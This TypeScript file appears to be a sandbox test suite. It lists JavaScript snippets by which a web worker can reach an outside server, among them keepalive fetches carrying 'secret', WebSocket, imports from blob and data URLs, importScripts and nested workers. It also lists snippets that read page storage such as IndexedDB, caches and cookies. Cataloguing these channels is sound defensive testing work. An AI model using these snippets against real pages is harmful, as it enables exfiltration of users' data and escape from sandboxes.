/** One way out of a worker: the body of an async function in which `G` is the global scope, `T` the server's address, `W` the same for WebSocket. */
export interface Attack {
  name: string;
  source: string;
  /** An ordinary worker of an ordinary page lets it through: the proof that the attack is one. */
  reaches: boolean;
}

const reaching = (name: string, source: string): Attack => ({ name, source, reaches: true });
/** Not in a worker of today's Chromium; here for the day when it is. */
const absent = (name: string, source: string): Attack => ({ name, source, reaches: false });
const opened = (socket: string): string =>
  `await new Promise((done) => { const s = ${socket}; s.onopen = s.onerror = s.onmessage = s.onclose = done; })`;

export const attacks: readonly Attack[] = [
  reaching("fetch", `await G.fetch(T + "fetch")`),
  reaching("a fetch that outlives its page", `await G.fetch(T + "keepalive", { method: "POST", mode: "no-cors", keepalive: true, body: "secret" })`),
  reaching("a fetch of a Request", `await G.fetch(new G.Request(T + "request", { mode: "no-cors" }))`),
  reaching(
    "XMLHttpRequest",
    `await new Promise((done) => { const x = new G.XMLHttpRequest(); x.onloadend = done; x.open("GET", T + "xhr"); x.send(); })`,
  ),
  reaching("synchronous XMLHttpRequest", `const x = new G.XMLHttpRequest(); x.open("GET", T + "xhr-sync", false); x.send();`),
  reaching("WebSocket", opened(`new G.WebSocket(W + "websocket")`)),
  reaching("WebSocketStream", `await new G.WebSocketStream(W + "websocketstream").opened`),
  reaching("EventSource", opened(`new G.EventSource(T + "eventsource")`)),
  absent("WebTransport", `await new G.WebTransport(T.replace("http:", "https:") + "webtransport").ready`),
  reaching("import()", `await import(T + "import.js")`),
  reaching("import() from a function made of text", `await G.Function("u", "return import(u)")(T + "function-import.js")`),
  reaching("import() inside a data module", `await import("data:text/javascript,import " + JSON.stringify(T + "data-import.js"))`),
  reaching(
    "import() inside a blob module",
    `await import(G.URL.createObjectURL(new G.Blob(["import " + JSON.stringify(T + "blob-import.js")], { type: "text/javascript" })))`,
  ),
  reaching("importScripts", `G.importScripts(T + "importscripts.js")`),
  reaching(
    "importScripts of a data script",
    `G.importScripts("data:text/javascript,importScripts(" + JSON.stringify(T + "data-importscripts.js") + ")")`,
  ),
  reaching("a nested worker that fetches", nested(`fetch(T + "nested-fetch", { mode: "no-cors" })`)),
  reaching("a nested worker that imports a script", nested(`Promise.resolve().then(() => importScripts(T + "nested-importscripts.js"))`)),
  reaching(
    "a nested module worker",
    `await new Promise((done) => { const w = new G.Worker(G.URL.createObjectURL(new G.Blob(["import " + JSON.stringify(T + "nested-module.js")], { type: "text/javascript" })), { type: "module" }); w.onerror = w.onmessage = done; })`,
  ),
  absent("a worker from another server", `await new Promise((done) => { const w = new G.Worker(T + "worker.js"); w.onerror = w.onmessage = done; })`),
  absent("SharedWorker", `new G.SharedWorker(T + "sharedworker.js")`),
  absent("a service worker", `await G.navigator.serviceWorker.register(T + "serviceworker.js")`),
  absent("a beacon", `G.navigator.sendBeacon(T + "beacon", "secret")`),
  absent("fetchLater", `G.fetchLater(T + "fetchlater", { activateAfter: 0 })`),
  absent("an image", `const i = new G.Image(); i.src = T + "image.png"; await i.decode()`),
  reaching("a font", `await new G.FontFace("stolen", "url(" + T + "font.woff2)").load()`),
  absent(
    "a canvas filter",
    `const c = new G.OffscreenCanvas(9, 9).getContext("2d"); c.filter = "url(" + T + "filter.svg#f)"; c.fillRect(0, 0, 9, 9)`,
  ),
  reaching("compiling WebAssembly from a stream", `await G.WebAssembly.compileStreaming(G.fetch(T + "module.wasm"))`),
  absent(
    "WebRTC",
    `const p = new G.RTCPeerConnection({ iceServers: [{ urls: "stun:" + new G.URL(T).host }] }); p.createDataChannel("x"); await p.setLocalDescription()`,
  ),
  absent("a navigation of the worker", `G.location = T + "location"; G.location.href = T + "href"`),
  absent("a navigation of the frames", `G.parent.location = T + "parent"; G.top.location = T + "top"`),
  absent("a form", `const f = G.document.createElement("form"); f.action = T + "form"; f.submit()`),
  absent(
    "a link for prefetching",
    `const l = G.document.createElement("link"); l.rel = "prefetch"; l.href = T + "prefetch"; G.document.head.append(l)`,
  ),
  absent("a notification's icon", `new G.Notification("x", { icon: T + "icon.png" })`),
  absent("a source map", `G.eval("1 //# sourceMappingURL=" + T + "source.map")`),
];

function nested(body: string): string {
  return `await new Promise((done) => {
    const script = "const T = " + JSON.stringify(T) + ";" + ${JSON.stringify(`${body}.finally(() => postMessage(1))`)};
    const w = new G.Worker(G.URL.createObjectURL(new G.Blob([script], { type: "text/javascript" })));
    w.onmessage = w.onerror = done;
  })`;
}

/** Ways to what the page keeps: each body gives what it found as text. The page's secret is the word "treasure". */
export const burglaries: readonly Attack[] = [
  absent("localStorage", `return G.localStorage.getItem("secret")`),
  absent("sessionStorage", `return G.sessionStorage.getItem("secret")`),
  absent("cookies", `return G.document.cookie`),
  absent("cookieStore", `return JSON.stringify(await G.cookieStore.getAll())`),
  reaching(
    "IndexedDB",
    `return await new Promise((done, fail) => { const r = G.indexedDB.open("secrets"); r.onerror = fail; r.onsuccess = () => done([...r.result.objectStoreNames].join()); })`,
  ),
  reaching("caches", `return (await G.caches.keys()).join()`),
  reaching("the private file system", `return (await Array.fromAsync((await G.navigator.storage.getDirectory()).keys())).join()`),
  reaching(
    "a broadcast channel",
    `return await new Promise((done) => { const c = new G.BroadcastChannel("secrets"); c.onmessage = (e) => done(e.data); c.postMessage("tell"); G.setTimeout(() => done("silence"), 200); })`,
  ),
  reaching("locks", `return JSON.stringify(await G.navigator.locks.query())`),
  absent("the frames around it", `return String(G.parent.document.title) + G.top.localStorage.secret`),
];
